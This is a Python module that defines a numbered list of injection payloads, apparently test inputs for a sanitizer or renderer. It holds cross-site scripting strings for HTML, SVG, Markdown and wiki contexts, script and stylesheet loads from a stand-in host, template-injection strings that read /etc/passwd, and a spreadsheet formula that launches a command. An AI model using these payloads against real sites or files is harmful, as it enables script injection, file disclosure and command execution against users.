"""What somebody writes into a text so that a browser, a spreadsheet or a builder runs it, each with its number."""

from __future__ import annotations

from typing import Final

_KINDS: Final = (
    # an element that runs, in the text and out of whatever is around it
    "<script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea></style></noscript></template><script>alert({n})</script>",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script><![CDATA[",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<script src=https://other.example/{n}.js></script>",
    "<script type=module>alert({n})</script>",
    # an attribute that runs
    "<img src=x onerror=alert({n})>",
    '"><img src=x onerror=alert({n})>',
    "'><img src=x onerror=alert({n})>",
    '" onmouseover="alert({n})" autofocus onfocus="alert({n})',
    "' onmouseover='alert({n})' autofocus onfocus='alert({n})",
    "` onmouseover=alert({n}) `",
    "x onload=alert({n}) style=animation-name:x onanimationstart=alert({n})",
    "<svg onload=alert({n})>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert({n})><text y=9>x</text></a></svg>",
    "<details open ontoggle=alert({n})><summary>x</summary></details>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<body onload=alert({n})>",
    # an address that runs, or that fetches
    '<a href="javascript:alert({n})">x</a>',
    "<a href=java&#10;script&colon;alert({n})>x</a>",
    "javascript:alert({n})//",
    "[x](javascript:alert({n}))",
    "![x](javascript:alert({n}))",
    "<javascript:alert({n})>",
    "[x]: javascript:alert({n})",
    "[[javascript:alert({n})]]",
    "[[<img src=x onerror=alert({n})>]]",
    '<iframe src="data:text/html,<script>parent.alert({n})</script>"></iframe>',
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=https://other.example/{n}></object><embed src=javascript:alert({n})>",
    "<form action=javascript:alert({n})><button>x</button></form><button formaction=javascript:alert({n})>x</button>",
    "<base href=https://other.example/{n}/><link rel=stylesheet href=//other.example/{n}.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert({n})">',
    "<style>@import'//other.example/{n}.css';*{{background:url(//other.example/{n}.png)}}</style>",
    # what becomes an element when it is read once more
    "&lt;img src=x onerror=alert({n})&gt;&#60;script&#62;alert({n})&#60;/script&#62;",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert({n})&gt;'>",
    # what templates, builders and spreadsheets read
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{% include '/etc/passwd' %}}${{alert({n})}}#{{alert({n})}}",
    "x {{: onclick=alert({n}) style=color:red }}\n\n<!--shouce:content--> <!--shouce:menu--> --8<-- 'mkdocs.yml'",
    '=HYPERLINK("https://other.example/{n}";"x")|cmd\'/c calc\'!A0',
)

PAYLOADS: Final = tuple(kind.format(n=7000 + number) for number, kind in enumerate(_KINDS))
